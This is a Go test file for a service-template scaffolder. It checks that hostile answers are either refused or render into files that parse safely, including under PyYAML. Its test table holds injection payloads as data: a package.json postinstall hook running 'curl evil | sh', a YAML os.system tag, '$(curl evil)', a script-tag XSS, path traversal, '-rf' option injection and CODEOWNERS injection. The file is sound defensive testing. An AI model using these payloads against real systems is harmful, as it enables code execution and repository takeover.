package templates_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"gopkg.in/yaml.v3"

	"github.com/goldenpath-dev/goldenpath/internal/catalog"
	"github.com/goldenpath-dev/goldenpath/internal/template"
	"github.com/goldenpath-dev/goldenpath/internal/testenv"
	"github.com/goldenpath-dev/goldenpath/templates"
)

// nastyAnswers are issue 13's hostile answers, as edits to the examples.
// refused says whether the validator must refuse them; every accepted one
// must render files that every reader takes (checkRenders).
var nastyAnswers = []struct {
	name    string
	edits   map[string]any
	refused bool
}{
	{"tab-led multi-line description", map[string]any{"description": "\tTakes card payments\nfrom the checkout."}, false},
	{"YAML injection: a new key and document", map[string]any{"description": "Payments\nmetadata:\n  name: evil\n---\nkind: Group\nspec: {owner: evil}"}, false},
	{"YAML injection: colon-space and a comment", map[string]any{"description": "owner: evil # and a comment: here"}, false},
	{"YAML injection: anchors and aliases", map[string]any{"description": "&a [*a, *a, *a] and <<: *a"}, false},
	{"YAML injection: tags", map[string]any{"description": "!!python/object/apply:os.system ['id'] !!binary aGk="}, false},
	{"a YAML number", map[string]any{"description": "1234567890"}, false},
	{"YAML booleans and numbers", map[string]any{"description": "yes 0x10 1e3 ~ .inf"}, false},
	{"document markers", map[string]any{"description": "--- \n...\n%YAML 1.1\n- item"}, false},
	{"JSON injection", map[string]any{"description": `Payments", "scripts": {"postinstall": "curl evil | sh"}, "x": "`}, false},
	{"backslashes and escapes as text", map[string]any{"description": `C:\new\table \u0000 \x00 \\ "quoted"`}, false},
	{"GitHub Actions expression", map[string]any{"description": "Payments ${{ github.token }} $(curl evil) `id`"}, false},
	{"template syntax", map[string]any{"description": "Payments {{ .Env }} {{ env \"HOME\" }} [[ .name ]]"}, false},
	{"HTML and Markdown", map[string]any{"description": "<script>alert(1)</script> [x](javascript:alert(1)) @acme/admins #1"}, false},
	{"right-to-left text with marks", map[string]any{"description": "שירות תשלומים\u200f for the checkout"}, false},
	{"zero-width characters and emoji", map[string]any{"description": "Pay\u200bments \u200c\u200d 👩\u200d💻 service"}, false},
	{"look-alike letters", map[string]any{"description": "Рaypal-like payments (Cyrillic Р)"}, false},
	{"tabs, NBSP and CRLF inside", map[string]any{"description": "Takes\tcard\u00a0payments\r\nfrom the checkout.\r\n"}, false},
	{"longest description", map[string]any{"description": strings.Repeat("é", 500)}, false},
	{"NUL", map[string]any{"description": "Takes\x00payments"}, true},
	{"DEL", map[string]any{"description": "Takes payments\x7f"}, true},
	{"C1 control", map[string]any{"description": "Takes \u0091payments"}, true},
	{"NEL then a document start", map[string]any{"description": "Takes payments\u0085--- evil: true"}, true},
	{"U+FFFE", map[string]any{"description": "Takes payments \ufffe"}, true},
	{"invalid UTF-8", map[string]any{"description": "Takes payments \xc3\x28"}, true},
	{"lone surrogate", map[string]any{"description": "Takes payments \xed\xb0\x80"}, true},
	{"right-to-left override", map[string]any{"description": "Takes \u202epayments"}, true},
	{"escape sequence", map[string]any{"description": "Takes \x1b]8;;https://evil\x07payments"}, true},
	{"name: path traversal", map[string]any{"name": "../x"}, true},
	{"name: .git", map[string]any{"name": ".git"}, true},
	{"name: option injection", map[string]any{"name": "-rf"}, true},
	{"name: Windows device name", map[string]any{"name": "con"}, true},
	{"owner: CODEOWNERS injection", map[string]any{"owner": "team\n* @evil/admins"}, true},
	{"owner: another org's team", map[string]any{"owner": "@evil/admins"}, true},
	{"system: YAML injection", map[string]any{"system": "payments\nowner: evil"}, true},
	{"lifecycle: not an option", map[string]any{"lifecycle": "production\nowner: evil"}, true},
}

// loadBuiltIn loads one built-in template.
func loadBuiltIn(tb testing.TB, name string) *template.Template {
	tb.Helper()
	sub, err := fs.Sub(templates.FS(), "templates/"+name)
	if err != nil {
		tb.Fatal(err)
	}
	tmpl, err := template.Load(sub)
	if err != nil {
		tb.Fatalf("loading %s: %v", name, err)
	}
	return tmpl
}

// withEdits is the template's example answers changed by edits.
func withEdits(tmpl *template.Template, edits map[string]any) map[string]any {
	raw := map[string]any(tmpl.Manifest.ExampleAnswers())
	for k, v := range edits {
		raw[k] = v
	}
	return raw
}

// TestNastyAnswers: each of issue 13's answers is refused with a problem
// naming its parameter, or renders files that yaml.v3, encoding/json,
// catalog.Validate and the answers file reader all take, holding the answer
// exactly as validated.
func TestNastyAnswers(t *testing.T) {
	for _, name := range templates.Names() {
		tmpl := loadBuiltIn(t, name)
		for _, tt := range nastyAnswers {
			t.Run(name+"/"+tt.name, func(t *testing.T) {
				answers, err := tmpl.Manifest.Validate(withEdits(tmpl, tt.edits))
				if tt.refused {
					var ve *template.ValidationError
					if !errors.As(err, &ve) || len(ve.Problems) != 1 || tt.edits[ve.Problems[0].Param] == nil {
						t.Fatalf("Validate = %v, want one problem naming the edited parameter", err)
					}
					return
				}
				if err != nil {
					t.Fatalf("Validate: %v", err)
				}
				checkRenders(t, tmpl, answers)
			})
		}
	}
}

// FuzzNastyAnswers holds the property for any answers: what the validator
// accepts renders, for both built-in templates, files every reader takes.
func FuzzNastyAnswers(f *testing.F) {
	for _, tt := range nastyAnswers {
		d, _ := tt.edits["description"].(string)
		f.Add(d, "payments-api", "team-payments", "payments", "production")
	}
	f.Add("Takes payments.", "a", "t_1", "s", "deprecated")
	tmpls := []*template.Template{loadBuiltIn(f, "go-service"), loadBuiltIn(f, "node-service")}
	f.Fuzz(func(t *testing.T, description, name, owner, system, lifecycle string) {
		for _, tmpl := range tmpls {
			answers, err := tmpl.Manifest.Validate(map[string]any{"description": description, "name": name,
				"owner": owner, "system": system, "lifecycle": lifecycle})
			if err != nil {
				var ve *template.ValidationError
				if !errors.As(err, &ve) || len(ve.Problems) == 0 {
					t.Fatalf("Validate error %v is not a list of problems", err)
				}
				continue
			}
			checkRenders(t, tmpl, answers)
		}
	})
}

// checkRenders renders tmpl with answers and checks every file a reader
// parses: YAML with yaml.v3 (JSON too, which is YAML), JSON with
// encoding/json, catalog-info.yaml with catalog.Validate, Markdown as text,
// CODEOWNERS line by line, and the answers file read back.
func checkRenders(t *testing.T, tmpl *template.Template, answers template.Answers) {
	t.Helper()
	files, err := template.Render(tmpl, answers, template.RenderContext{Org: goldenOrg})
	if err != nil {
		t.Fatalf("rendering %s with accepted answers %#v: %v", tmpl.Manifest.Name, answers, err)
	}
	desc := answers["description"].(string)
	for _, f := range files {
		switch ext := path.Ext(f.Path); {
		case ext == ".yml" || ext == ".yaml" || ext == ".json":
			var docs []any
			dec := yaml.NewDecoder(bytes.NewReader(f.Data))
			for {
				var v any
				if err := dec.Decode(&v); err != nil {
					if err.Error() == "EOF" {
						break
					}
					t.Fatalf("%s does not parse with yaml.v3: %v\n%s", f.Path, err, f.Data)
				}
				docs = append(docs, v)
			}
			if len(docs) != 1 {
				t.Fatalf("%s holds %d YAML documents, want 1:\n%s", f.Path, len(docs), f.Data)
			}
			if ext == ".json" && !json.Valid(f.Data) {
				t.Fatalf("%s is not JSON:\n%s", f.Path, f.Data)
			}
			if d, ok := descriptionIn(f.Path, docs[0]); ok && d != desc {
				t.Fatalf("%s holds the description %q, want %q", f.Path, d, desc)
			}
		case ext == ".md":
			if template.IsBinary(f.Data) || !utf8.Valid(f.Data) {
				t.Fatalf("%s is not text", f.Path)
			}
		case f.Path == "CODEOWNERS":
			want := "# Every change needs a review from the owning team.\n* @" + goldenOrg + "/" + answers["owner"].(string) + "\n"
			if string(f.Data) != want {
				t.Fatalf("CODEOWNERS = %q, want %q", f.Data, want)
			}
		}
		if f.Path == catalog.FileName {
			if err := catalog.Validate(f.Data); err != nil {
				t.Fatalf("catalog.Validate: %v\n%s", err, f.Data)
			}
			ents, err := catalog.Parse(f.Data)
			if err != nil || len(ents) != 1 || ents[0].Metadata.Name != answers["name"] || ents[0].SpecString("owner") != answers["owner"] {
				t.Fatalf("catalog-info.yaml names %+v (%v), want %s owned by %s", ents, err, answers["name"], answers["owner"])
			}
		}
	}
	af := template.AnswersFile{Template: tmpl.Manifest.Name, Version: "1.0.0", Answers: answers}
	back, err := template.ParseAnswersFile(af.Marshal())
	if err != nil {
		t.Fatalf("the answers file does not read back: %v\n%s", err, af.Marshal())
	}
	again, err := tmpl.Manifest.Validate(back.Answers)
	if err != nil || again["description"] != desc {
		t.Fatalf("the answers file's answers re-validate to %#v (%v), want the description %q", again, err, desc)
	}
}

// descriptionIn finds the description a rendered YAML or JSON file carries.
func descriptionIn(p string, doc any) (string, bool) {
	m, _ := doc.(map[string]any)
	switch p {
	case "mkdocs.yml":
		s, ok := m["site_description"].(string)
		return s, ok
	case "package.json":
		s, ok := m["description"].(string)
		return s, ok
	case catalog.FileName:
		md, _ := m["metadata"].(map[string]any)
		s, ok := md["description"].(string)
		return s, ok
	}
	return "", false
}

// TestPyYAMLReadsNastyRenders: TechDocs builds with mkdocs, which reads
// mkdocs.yml with PyYAML (YAML 1.1, stricter about characters than yaml.v3);
// catalog-info.yaml and the workflows are read by other YAML 1.1 readers.
// Every nasty-but-accepted render must load with PyYAML's safe loader, one
// document per file, holding the description as validated.
func TestPyYAMLReadsNastyRenders(t *testing.T) {
	const python = "/usr/bin/python3"
	if _, err := os.Stat(python); err != nil {
		testenv.Missing(t, python)
	}
	if err := exec.Command(python, "-c", "import yaml").Run(); err != nil {
		testenv.Missing(t, "PyYAML (Debian package python3-yaml)")
	}
	dir := t.TempDir()
	want := map[string]string{} // file → description it must hold ("" none)
	for _, name := range templates.Names() {
		tmpl := loadBuiltIn(t, name)
		for i, tt := range nastyAnswers {
			if tt.refused {
				continue
			}
			answers, err := tmpl.Manifest.Validate(withEdits(tmpl, tt.edits))
			if err != nil {
				t.Fatalf("%s: %v", tt.name, err)
			}
			files, err := template.Render(tmpl, answers, template.RenderContext{Org: goldenOrg})
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range files {
				if ext := path.Ext(f.Path); ext != ".yml" && ext != ".yaml" && ext != ".json" {
					continue
				}
				p := filepath.Join(dir, name, fmt.Sprintf("%03d", i), filepath.FromSlash(f.Path))
				if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(p, f.Data, 0o644); err != nil {
					t.Fatal(err)
				}
				rel, _ := filepath.Rel(dir, p)
				want[filepath.ToSlash(rel)] = ""
				if f.Path == "mkdocs.yml" || f.Path == catalog.FileName || f.Path == "package.json" {
					want[filepath.ToSlash(rel)] = answers["description"].(string)
				}
			}
		}
	}
	// The script prints, per file, the description it read (JSON), or why
	// the file does not load.
	script := `
import json, os, sys, yaml
out = {}
for root, _, files in os.walk(sys.argv[1]):
    for f in files:
        p = os.path.join(root, f)
        rel = os.path.relpath(p, sys.argv[1])
        try:
            with open(p, encoding="utf-8") as fh:
                docs = list(yaml.safe_load_all(fh))
        except Exception as e:
            out[rel] = {"error": str(e)}
            continue
        if len(docs) != 1:
            out[rel] = {"error": "%d documents" % len(docs)}
            continue
        d = docs[0]
        desc = d.get("site_description") or d.get("description") or (d.get("metadata") or {}).get("description") or ""
        out[rel] = {"description": desc}
json.dump(out, sys.stdout)
`
	outb, err := exec.Command(python, "-c", script, dir).Output()
	if err != nil {
		t.Fatalf("running PyYAML: %v", err)
	}
	var got map[string]struct {
		Error       string `json:"error"`
		Description string `json:"description"`
	}
	if err := json.Unmarshal(outb, &got); err != nil {
		t.Fatalf("reading PyYAML's answer: %v\n%s", err, outb)
	}
	if len(got) != len(want) {
		t.Errorf("PyYAML read %d files, want %d", len(got), len(want))
	}
	for rel, desc := range want {
		g := got[rel]
		if g.Error != "" {
			t.Errorf("%s does not load with PyYAML: %s", rel, g.Error)
		} else if g.Description != desc {
			t.Errorf("%s: PyYAML reads the description %q, want %q", rel, g.Description, desc)
		}
	}
	t.Logf("PyYAML loaded %d rendered files of %d accepted nasty answers", len(got), len(want))
}
